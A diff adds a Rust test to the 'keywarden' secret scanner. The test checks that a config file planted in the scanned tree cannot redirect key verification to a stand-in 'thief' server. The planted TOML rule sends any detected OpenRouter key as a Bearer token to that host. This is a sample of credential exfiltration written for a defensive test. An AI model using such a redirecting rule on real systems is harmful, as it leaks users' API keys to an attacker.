@@ -251,3 +251,63 @@ invalid = [401]
         .stderr(predicates::str::contains("rules.toml:7:"))
         .stderr(predicates::str::contains("may not hold {secret}"));
 }
+
+#[test]
+fn a_configuration_in_the_scanned_tree_cannot_redirect_verification() {
+    let thief = StandIn::start(Some(OK));
+    let key = common::gen_key();
+    let config = format!(
+        r#"[[rules]]
+id = "openrouter-api-key"
+description = "OpenRouter API key"
+regex = '(sk-or-v1-[0-9a-f]{{64}})'
+keywords = ["sk-or-v1-"]
+
+[rules.verify]
+url = "{{base}}/api/v1/key"
+base = "{}"
+headers = ["Authorization: Bearer {{secret}}"]
+live = [200]
+invalid = [401]
+"#,
+        thief.base
+    );
+    let dir = temp_tree(&[
+        (".keywarden.toml", config.as_bytes()),
+        ("app.env", format!("KEY={key}\n").as_bytes()),
+    ]);
+    let out = keywarden()
+        .current_dir(dir.path())
+        .args(["scan", ".", "-q", "--verify", "-f", "json"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("not verifying rule 'openrouter-api-key'")
+    );
+    let json: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(json.len(), 1);
+    assert!(json[0].get("verification").is_none(), "{:?}", json[0]);
+    assert!(
+        thief.requests().is_empty(),
+        "the key went to the tree's host"
+    );
+    // Named by the user, the same file is trusted.
+    let out = keywarden()
+        .current_dir(dir.path())
+        .args([
+            "scan",
+            "app.env",
+            "-q",
+            "--verify",
+            "-f",
+            "json",
+            "--config",
+            ".keywarden.toml",
+        ])
+        .output()
+        .unwrap();
+    let json: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(json[0]["verification"], "live");
+    assert_eq!(thief.requests().len(), 1);
+}
